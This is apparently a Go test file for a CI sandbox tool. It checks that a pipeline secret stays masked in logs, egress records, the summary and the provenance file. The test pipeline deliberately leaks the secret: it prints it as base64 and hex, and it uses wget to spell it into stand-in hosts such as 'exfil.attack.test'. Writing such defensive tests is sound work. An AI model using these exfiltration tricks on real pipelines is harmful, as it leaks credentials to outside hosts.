package attack

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cleanroom-ci/cleanroom/internal/clitest"
)

// A --secret printed encoded, or spelled into host names and URLs the step
// asks for, reaches no log, egress record, summary or provenance.
func TestSecretLeakAttacks(t *testing.T) {
	e := clitest.New(t, cfg)
	secret := "S3cr3tValue42xyz"
	e.Pipeline(`version: 1
image: IMAGE
steps:
  - name: leak
    run: |
      printf %s "$LEAK_SECRET" | base64
      printf x%s "$LEAK_SECRET" | base64
      printf %s "$LEAK_SECRET" | od -An -tx1 | tr -d ' \n'; echo
      wget -q -O /dev/null "http://$LEAK_SECRET.attack.test/" 2>&1 || true
      wget -q -O /dev/null "http://exfil.attack.test/?k=$LEAK_SECRET" 2>&1 || true
`)
	r := e.Run([]string{"LEAK_SECRET=" + secret}, "run", "--secret", "LEAK_SECRET")
	forms := map[string]string{
		"plain":      secret,
		"lowercase":  strings.ToLower(secret),
		"base64":     base64.StdEncoding.EncodeToString([]byte(secret))[:20],
		"base64(x+)": base64.StdEncoding.EncodeToString([]byte("x" + secret))[4:20],
		"hex":        hex.EncodeToString([]byte(secret)),
	}
	places := map[string]string{"terminal": r.Stdout + r.Stderr}
	out := filepath.Join(e.Dir, ".cleanroom")
	for _, f := range []string{"logs/leak.log", "egress.jsonl", "summary.json", "provenance.intoto.json"} {
		b, _ := os.ReadFile(filepath.Join(out, f))
		places[f] = string(b)
	}
	var found []string
	for where, text := range places {
		for name, form := range forms {
			if strings.Contains(text, form) {
				found = append(found, name+" in "+where)
			}
		}
	}
	denied := strings.Contains(places["egress.jsonl"], `"decision":"deny"`) && strings.Contains(places["egress.jsonl"], "[masked]")
	check(t, "secrets", "print a --secret as base64 (two alignments) and hex, and spell it into denied host names and URLs", "masked everywhere: terminal, log, egress.jsonl, summary.json, provenance",
		fmt.Sprintf("exit %d, found: %v, %d masked lines in the log, denial recorded masked: %v", r.Code, found, strings.Count(places["logs/leak.log"], "[masked]"), denied),
		r.Code == 0 && len(found) == 0 && denied && strings.Count(places["logs/leak.log"], "[masked]") >= 3)
}
